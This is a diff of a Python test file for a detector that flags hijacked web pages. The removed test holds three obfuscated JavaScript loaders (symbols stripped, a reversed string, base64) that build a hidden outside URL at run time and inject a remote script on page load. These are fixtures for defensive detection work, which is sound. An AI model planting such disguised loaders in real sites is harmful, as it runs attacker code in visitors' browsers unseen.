@@ -54,28 +54,6 @@ def test_names_shaped_like_a_miner_but_starting_none_stay_clean():
     assert not clean_page(page(body=BODY + text), url=URL).hijacked
 
 
-HOSTS = ("cdn.weather-box.ru", "stats.daily-finance.com", "js.alpinegift.com")
-
-
-def test_variant_a_load_built_at_run_time_from_a_host_the_source_spells_nowhere_flags_the_page():
-    loaders = {
-        "symbols stripped": "var s=document.createElement('script');s.src='h#t!t@p:/#/!c@d#n.w!e@a#t!h@e#r-b!o@x#.r!u:8#0@8#0/j.js'"
-                            ".replace(/#|!|@/g,'');document.body.appendChild(s);",
-        "reversed": "var s=document.createElement('script');s.src='sj.a/moc.ecnanif-yliad.stats//:sptth'.split('')"
-                    ".reverse().join('');document.head.appendChild(s);",
-        "base64": "var s=document.createElement('script');s.src=atob('aHR0cHM6Ly9qcy5hbHBpbmVnaWZ0LmNvbS9hLmpz');"
-                  "document.head.appendChild(s);",
-    }
-    a = clean_page(page(body=BODY + "<script>window.onload=function(){" + loaders["symbols stripped"] + "};</script>"),
-                   url=URL)
-    assert _where(a, "source spells nowhere") == "http://cdn.weather-box.ru:8080/j.js", a.findings
-    for how, code in loaders.items():  # (base64 is read by the decoder too: any finding naming the loader)
-        a = clean_page(page(body=BODY + f"<script>window.onload=function(){{{code}}};</script>"), url=URL)
-        named = [f.evidence for f in a.findings if f.kind == "spam_script"]
-        assert a.hijacked and any(host in e for e in named for host in HOSTS), (how, a.findings)
-        assert ARTICLE in a.text
-
-
 def test_vendor_loaders_writing_their_host_plainly_stay_clean():
     vendors = [
         "var _hmt=_hmt||[];(function(){var hm=document.createElement('script');"
